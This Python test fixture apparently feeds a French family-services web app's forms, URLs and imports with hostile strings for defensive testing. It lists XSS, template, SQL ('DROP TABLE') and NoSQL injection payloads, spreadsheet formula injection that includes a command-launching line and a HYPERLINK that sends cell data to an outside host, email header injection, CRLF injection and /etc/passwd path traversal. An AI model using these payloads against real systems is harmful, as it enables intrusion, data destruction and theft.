"""What nobody types by chance: the strings that every form, address and import is fed with."""

from __future__ import annotations

RIGHT_KEY = "255081416802538"
"""A social-security number whose key is right (INSEE's own example)."""

SCRIPT = "<img src=x onerror=window.__pwned=1><script>window.__pwned=1</script>"

HOSTILE: dict[str, str] = {
    "html": SCRIPT,
    "attribute": "\" autofocus onfocus=window.__pwned=1 x='",
    "template": "{{ 7|add:7 }}{% now 'Y' %}${7*7}#{7*7}",
    "sql": "Robert'); DROP TABLE families_family; --",
    "like": "%_\\",
    "formula": '=HYPERLINK("https://ailleurs.fr?"&A1)',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage": "\r=1+1",
    "null": "Sa\x00mira",
    "escape": "Sa\x1b[31mmira",
    "next_line": "Sa\x85mira",
    "two_lines": "Samira\r\nBcc: tous@ailleurs.fr",
    "right_to_left": "Samira \u202eilaneB\u202c",
    "zero_width": "Sa\u200bmi\u200dra\ufeff",
    "separator": "Sa\u2028mi\u2029ra",
    "combining": "Z" + "\u0353\u0301" * 40,
    "emoji": "👩🏽‍🍼",
    "arabic": "سميرة بن علي",
    "surrogate": "Sa\ud800mira",
    "not_a_character": "Sa\uffff\U0010ffffmira",
    "nir": RIGHT_KEY,
    "long": "a" * 20_001,
    "huge": "a" * 1_000_000,
    "number": "9" * 400,
    "negative": "-1",
    "infinity": "NaN",
    "decimal_digits": "²",
    "year_zero": "0000-01-01",
    "year_far": "99999-12-31",
    "year_last": "9999-12-31",
    "json": '{"$ne": null, "__proto__": {"x": 1}}',
    "path": "../../../../etc/passwd\\..\\..",
    "percent": "%s%n%00%0d%0aSet-Cookie:x=1",
    "spaces": "   \u00a0 ",
}

# What a text may hold: kept as it is, byte for byte.
KEPT = (
    "html", "attribute", "template", "sql", "like", "formula", "at", "right_to_left", "zero_width",
    "emoji", "arabic", "json", "path", "percent",
)  # fmt: skip
# What no text of the house holds.
REFUSED = ("null", "escape", "next_line", "surrogate", "nir")

# The kinds of hostility: each field of each form gets one string of each kind.
KINDS: dict[str, tuple[str, ...]] = {
    "html": ("html", "attribute", "template"),
    "query": ("sql", "like", "json"),
    "formula": ("formula", "at", "tab", "carriage"),
    "no_text": ("null", "escape", "next_line", "surrogate", "not_a_character"),
    "lines": ("two_lines", "separator", "spaces"),
    "direction": ("right_to_left", "zero_width", "combining"),
    "world": ("emoji", "arabic"),
    "nir": ("nir",),
    "long": ("long",),
    "number": ("number", "negative", "infinity", "decimal_digits"),
    "date": ("year_zero", "year_far", "year_last"),
    "path": ("path", "percent"),
}

# A page opened with these in its address: the same, without what a browser cannot put in it.
IN_ADDRESSES = (
    "html", "template", "sql", "like", "null", "right_to_left", "nir", "number", "negative",
    "decimal_digits", "year_zero", "year_far", "path", "percent", "two_lines",
)  # fmt: skip
